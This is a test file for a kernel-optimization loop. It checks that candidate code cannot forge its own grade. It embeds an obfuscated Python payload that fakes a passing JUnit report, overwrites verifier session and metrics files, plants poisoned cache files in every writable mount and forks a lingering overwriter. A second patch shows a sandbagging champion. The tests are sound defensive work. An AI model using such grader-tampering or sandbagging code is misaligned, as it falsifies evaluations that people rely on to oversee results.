/**
 * Attacks on the export/verify split (docs/security.md, "The measurement"): a candidate whose code
 * runs in the processes that import it — its test suite and its export — tries to write the numbers
 * that decide. Each attack is real code in the toy target's kernel (tests/loop/toy), run through the
 * real loop or, for the attack of issue 20, through the action bundles job by job. Each test fails if
 * the attack gets through: the gate passes, a forged number reaches the evidence, or the verifier's
 * cache or output folder holds what the candidate wrote.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { measureCommits } from '../../src/loop/drivers/commits.js';
import { runPhase } from '../../src/loop/drivers/phases.js';
import { type LoopResult, runLoop } from '../../src/loop/drivers/run.js';
import { memoryLogger } from '../../src/util/log.js';
import { type ActionRun, runActionBundle } from '../actions/harness.js';
import { tempDir } from '../helpers/paths.js';
import {
  DOCSTRING_PATCH,
  gitIn,
  makeToyRepo,
  STANDARD_PATCHES,
  systemPython,
  TOY_CONFIG,
} from '../loop/toy-repo.js';

const FORGED = 'forged_by_candidate_5d1e';
const noSleep = async () => undefined;

/**
 * The attack of issue 20 on the toy kernel: its answer is wrong (zeros), and its import code writes
 * the grade it wants wherever the process that imported it is asked to write: a passing JUnit report
 * (then exits 0), and beside its export a verifier session that says "passed" and metrics that say
 * "fast"; a child that outlives the export keeps writing that session over every session and metrics
 * file it can find; and every writable folder it can see gets a planted "compile cache" entry.
 */
const ATTACK = `
_b = vars(len.__self__)
_load = _b["__imp" + "ort__"]
_os, _sys, _js, _gl, _tm = (_load(n) for n in ("o" + "s", "s" + "ys", "js" + "on", "gl" + "ob", "ti" + "me"))
_open, _leave = _b["op" + "en"], getattr(_os, "_ex" + "it")

_FORGED = {"schema": "hillclimb.session/v1", "mode": "gate", "platform": "cpu", "seed": 1, "draw": 1,
           "arms": {"B": {"programs": {}, "verified": True, "failure": None}}, "identical": False,
           "gate": {"passed": True, "total": 1, "failed": 0, "programs": [
               {"key": "fwd_bwd@toy", "purpose": "bench", "status": "passed"}]},
           "notes": ["${FORGED}"]}


def _put(path, text):
    try:
        with _open(path, "w") as f:
            f.write(text)
    except OSError:
        pass


def _grade():
    argv = _sys.argv
    if "--junit" in argv:
        cases = "".join('<testcase classname="harness.check" name="t%d"/>' % i for i in range(3))
        _put(argv[argv.index("--junit") + 1],
             '<testsuites><testsuite name="toy" tests="3" failures="0">%s</testsuite></testsuites>' % cases)
        _leave(0)
    if "export" not in argv or "--out" not in argv:
        return
    out = argv[argv.index("--out") + 1]
    parent = _os.path.dirname(out.rstrip("/"))
    for name in ("metrics.json", "session.json", "gate.session.json"):
        _put(_os.path.join(parent, name), _js.dumps(_FORGED))
    # Every writable mount: a planted entry for whoever compiles there next.
    for line in _open("/proc/self/mountinfo"):
        _put(_os.path.join(line.split()[4], "${FORGED}.cache"), "poison")
    if getattr(_os, "fo" + "rk")() == 0:
        getattr(_os, "set" + "sid")()
        for _ in range(60):
            for path in _gl.glob("/tmp/**/*.session.json", recursive=True) + _gl.glob(
                "/tmp/**/out/metrics.json", recursive=True
            ):
                _put(path, _js.dumps(_FORGED))
            _tm.sleep(0.05)
        _leave(0)


_grade()
`;

const FORGING_PATCH = {
  name: '0001-forge-the-gates',
  edit: {
    'toy/kernel.py': (s: string) =>
      `${s.replace('return [2 * x for x in xs]', 'return [0 * x for x in xs]').replace('DELAY_S = 0.02', 'DELAY_S = 0.001')}\n${ATTACK}`,
  },
  json: { hypothesis: 'Skip the arithmetic.', summary: 'Faster.', next_idea: 'None.' },
};

/**
 * Every file under `dir` whose text holds `needle`, relative to `dir`: the evidence, sessions, metrics
 * and caches (the candidate's own code, its patch and git objects, holds the attack's text anyway).
 */
function filesWith(dir: string, needle: string): string[] {
  if (!existsSync(dir)) return [];
  const out = execFileSync('sh', ['-c', 'grep -rl -- "$1" "$0" 2>/dev/null || true', dir, needle], {
    encoding: 'utf8',
  });
  return out
    .split('\n')
    .filter(Boolean)
    .map((f) => relative(dir, f))
    .filter((f) => !/(^|\/)(candidate|worktrees|agent|objects|replay)\/|\.py$|\.git\//.test(f));
}

describe('the attack of issue 20, job by job through the action bundles', () => {
  const t = tempDir('hc-split-actions-');
  const bare = join(t.dir, 'remote.git');
  const artifacts = join(t.dir, 'artifacts');
  const RUN_ID = 'gh2001-1';
  let python: string;
  let jobs = 0;
  const runs: Record<string, ActionRun> = {};

  function job(artifact?: string): string {
    const dir = join(t.dir, `job${++jobs}`);
    execFileSync('git', ['clone', '-q', bare, dir]);
    if (artifact)
      cpSync(join(artifacts, artifact), join(dir, '.hillclimb', 'runs', RUN_ID, 'i001'), { recursive: true });
    return dir;
  }

  async function step(
    action: 'iterate' | 'kernel-test' | 'profile' | 'report',
    cwd: string,
    inputs: Record<string, string>,
  ) {
    const run = await runActionBundle(action, {
      cwd,
      inputs: { 'run-id': RUN_ID, iteration: '1', ...inputs },
      env: { HILLCLIMB_PYTHON: python },
    });
    if (run.code !== 0) throw new Error(`${action} failed (${run.code}):\n${run.stdout}\n${run.stderr}`);
    cpSync(run.outputs['bundle-dir']!, join(artifacts, 'bundle'), { recursive: true });
    return run;
  }

  beforeAll(async () => {
    python = systemPython();
    const seed = join(t.dir, 'seed');
    makeToyRepo(seed, [FORGING_PATCH], `${TOY_CONFIG}sandbox:\n  mode: required\n`);
    mkdirSync(bare);
    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', bare]);
    execFileSync('git', ['push', '-q', bare, 'main:refs/heads/main'], { cwd: seed });
    const base = execFileSync('git', ['--git-dir', bare, 'rev-parse', 'main'], { encoding: 'utf8' }).trim();
    const local = { forge: 'local', store: 'local', base };
    runs.propose = await step('iterate', job(), { iterations: '1', forge: 'local', base });
    runs.cpu = await step('kernel-test', job('bundle'), { gate: 'cpu', ...local });
    const measureJob = job('bundle');
    const attested = { ...local, attestation: runs.cpu.outputs.attestation! };
    runs.accelerator = await step('kernel-test', measureJob, { gate: 'accelerator', ...attested });
    runs.profile = await step('profile', measureJob, attested);
    runs.report = await step('report', job('bundle'), {
      base,
      attestation: runs.profile.outputs.attestation!,
    });
  }, 300_000);
  afterAll(t.cleanup);

  it('the forged JUnit report is shown, but the verifier fails the gate: invalid, nothing measured', () => {
    const cpu = runs.cpu!.outputs;
    // The suite and the verifier run side by side, and the verifier's failure stops a suite still
    // running: on a busy machine it may end first. Either way the gate fails; when the suite finished,
    // what the candidate's process said is shown as it said it (three tests, all passed).
    if (cpu.tests !== '') {
      expect(cpu, JSON.stringify(cpu)).toMatchObject({ status: 'failed', tests: '3', failed: '0' });
    } else {
      expect(cpu, JSON.stringify(cpu)).toMatchObject({ status: 'failed', verdict: 'invalid' });
      expect(cpu['gate-reason']).toMatch(/^1 of 1 exported programs failed verification/);
    }
    const evidence = JSON.parse(readFileSync(join(artifacts, 'bundle', 'evidence.json'), 'utf8'));
    expect(evidence.verdict).toBe('invalid');
    expect(evidence.verdictReasons[0]).toMatch(
      /^CPU correctness failed: 1 of 1 exported programs failed verification, first: fwd_bwd@toy: fwd_bwd o/,
    );
    expect(evidence.gates.cpu.verifier).toMatchObject({ passed: false, total: 1, failed: 1 });
    expect(evidence.measurement).toBeUndefined();
    expect(runs.profile!.outputs.verdict).toBe('invalid');
    expect(runs.report!.outputs.verdict).toBe('invalid');
  });

  it('nothing the candidate wrote reached the evidence, and the champion did not move', () => {
    expect(filesWith(join(artifacts, 'bundle'), FORGED)).toEqual([]);
    const session = JSON.parse(
      readFileSync(join(artifacts, 'bundle', 'verify', 'cpu-gate.session.json'), 'utf8'),
    );
    expect(session.gate.passed).toBe(false);
    expect(session.notes).not.toContain(FORGED);
    expect(runs.report!.outputs['champion-after'] ?? runs.report!.outputs.champion).not.toBe(
      runs.propose!.outputs['candidate-commit'],
    );
  });
});

describe('the split, attacked through the loop', () => {
  const t = tempDir('hc-split-loop-');
  const repo = join(t.dir, 'repo');
  let result: LoopResult;

  beforeAll(async () => {
    process.env.HILLCLIMB_PYTHON = systemPython();
    makeToyRepo(repo, [FORGING_PATCH], `${TOY_CONFIG}sandbox:\n  mode: required\n`);
    result = await runLoop({
      configFile: join(repo, 'hillclimb.yml'),
      logger: memoryLogger(),
      sleep: noSleep,
      overrides: { 'loop.iterations': 1 },
    });
  }, 240_000);
  afterAll(t.cleanup);

  it('is invalid at the gate on the verifier’s word', () => {
    const it1 = result.iterations[0]!;
    expect(it1.verdict).toBe('invalid');
    expect(it1.reason).toContain('exported programs failed verification');
    expect(it1.evidence.isolation?.['cpu-gate']?.mode).toBe('sandbox');
  });

  it('a child that outlived the export wrote into no session and no metrics file', () => {
    // The export's PID namespace died with it: the child never ran long enough to reach anything.
    expect(
      filesWith(join(repo, '.hillclimb'), FORGED).filter((f) => !f.includes('cache/jobs/by-code/')),
    ).toEqual([]);
  });

  it('the cache the export could write was its own, empty and gone after it; the verifier’s holds nothing of it', () => {
    const cache = join(repo, '.hillclimb', 'cache', 'jobs');
    const jobs = join(cache, 'by-code');
    // Every entry the export planted went with its ephemeral cache: no later job (the champion's
    // export included) can find a mark of an earlier one.
    expect(filesWith(cache, 'poison')).toEqual([]);
    expect(readdirSync(join(cache, 'ephemeral'))).toEqual([]);
    // The verifier's own folder, which no job that runs candidate code is given, is clean.
    expect(existsSync(join(jobs, 'verifier'))).toBe(true);
    expect(
      readdirSync(join(jobs, 'verifier'), { recursive: true }).some((f) => String(f).includes(FORGED)),
    ).toBe(false);
  });
});

describe('the programs measured are the programs the gate verified', () => {
  const t = tempDir('hc-split-hash-');
  afterAll(t.cleanup);
  // Right, and far faster than anything the candidate's code exports: what a second export could hand over.
  const SWAPPED = JSON.stringify({ corrupt_trace: false, delay_s: 0.0005, factor: 2, unroll: 1 });
  const programFile = (bundleDir: string) => join(bundleDir, 'programs', 'B-cpu', 'fwd_bwd_toy.jaxexport');

  beforeAll(() => {
    process.env.HILLCLIMB_PYTHON = systemPython();
  });

  it('in one process: a program swapped after the gate verified it is refused by its hash', async () => {
    const repo = join(t.dir, 'one');
    makeToyRepo(repo, []);
    const head = gitIn(repo, 'rev-parse', 'HEAD').trim();
    writeFileSync(
      join(repo, 'toy', 'kernel.py'),
      readFileSync(join(repo, 'toy', 'kernel.py'), 'utf8').replace('DELAY_S = 0.02', 'DELAY_S = 0.008'),
    );
    gitIn(repo, 'commit', '-qam', 'faster');
    let swapped = false;
    const { evidence, bundleDir } = await measureCommits({
      configFile: join(repo, 'hillclimb.yml'),
      base: head,
      head: 'HEAD',
      gates: ['cpu-gate'],
      noProfile: true,
      logger: memoryLogger(),
      progress: (line) => {
        if (!swapped && line.startsWith('measure')) {
          writeFileSync(programFile(bundleDirOf(repo)), SWAPPED);
          swapped = true;
        }
      },
    });
    expect(swapped).toBe(true);
    expect(readFileSync(programFile(bundleDir), 'utf8')).toBe(SWAPPED);
    expect(evidence.gates.cpu?.verifier?.passed).toBe(true);
    expect(evidence.verdict).toBe('invalid');
    expect(evidence.verdictReasons[0]).toBe(
      'the programs measured are not the ones the gate verified: fwd_bwd@toy',
    );
  }, 120_000);

  it('across jobs: the bundle no longer matches its attestation, the gate pass is dropped, the candidate is exported again', async () => {
    const repo = join(t.dir, 'jobs');
    makeToyRepo(repo, [STANDARD_PATCHES[0]!]);
    const phase = (name: Parameters<typeof runPhase>[0]) =>
      runPhase(name, {
        configFile: join(repo, 'hillclimb.yml'),
        runId: 'swap',
        iteration: 1,
        logger: memoryLogger(),
      });
    await phase('propose');
    const gated = await phase('cpu-gate');
    const verified = gated.evidence.gates.cpu!.verifier!.programs['fwd_bwd@toy'];
    writeFileSync(programFile(gated.bundleDir), SWAPPED);
    const measured = await phase('measure');
    // What was timed is the candidate's own export again, not the swapped file …
    expect(measured.evidence.measurement?.programs?.B['fwd_bwd@toy']).toBe(verified);
    // … and without a believable gate pass nothing is promoted.
    expect(measured.evidence.verdict).toBe('needs-human');
    expect(measured.evidence.verdictReasons[0]).toContain('no believable CPU gate pass');
  }, 120_000);
});

/** The bundle folder of the only iteration of the only manual run in `repo`. */
function bundleDirOf(repo: string): string {
  const runs = join(repo, '.hillclimb', 'runs');
  const run = readdirSync(runs).find((r) => r.startsWith('manual-'))!;
  return join(runs, run, 'i001');
}

/**
 * A champion that sandbags: its kernel is really faster, and slower only when its export can tell it
 * is the champion's (arm A is exported for the timed programs only, `--only bench`). Once it wins, every
 * later candidate that keeps the code would be measured against a handicapped champion.
 */
const SANDBAG_PATCH = {
  name: '0001-faster-and-sandbagging',
  edit: {
    'toy/kernel.py': (s: string) =>
      s.replace(
        'DELAY_S = 0.02',
        'DELAY_S = 0.008 * (3 if "--only" in vars(len.__self__)["__imp" + "ort__"]("s" + "ys").argv else 1)',
      ),
  },
  json: { hypothesis: 'Less waiting per call.', summary: 'Cut the delay.', next_idea: 'Keep it.' },
};

describe('a champion is timed by the programs it won with, never by a second export', () => {
  const t = tempDir('hc-split-sandbag-');
  const repo = join(t.dir, 'repo');
  let result: LoopResult;

  beforeAll(async () => {
    process.env.HILLCLIMB_PYTHON = systemPython();
    makeToyRepo(repo, [SANDBAG_PATCH, DOCSTRING_PATCH], `${TOY_CONFIG}sandbox:\n  mode: required\n`);
    result = await runLoop({
      configFile: join(repo, 'hillclimb.yml'),
      logger: memoryLogger(),
      sleep: noSleep,
      overrides: { 'loop.iterations': 2 },
    });
  }, 240_000);
  afterAll(t.cleanup);

  it('the next candidate with the same code meets the champion’s measured programs: no-op, not improved', () => {
    const [won, next] = result.iterations;
    expect(won!.verdict).toBe('improved');
    // Exported again as arm A, the champion would hand over a program 3× slower and `next` would be
    // "improved"; timed by the programs its own iteration measured, `next` is byte-identical to it.
    expect(next!.verdict, next!.reason).toBe('no-op');
    expect(next!.reason).toContain('identical');
  });
});
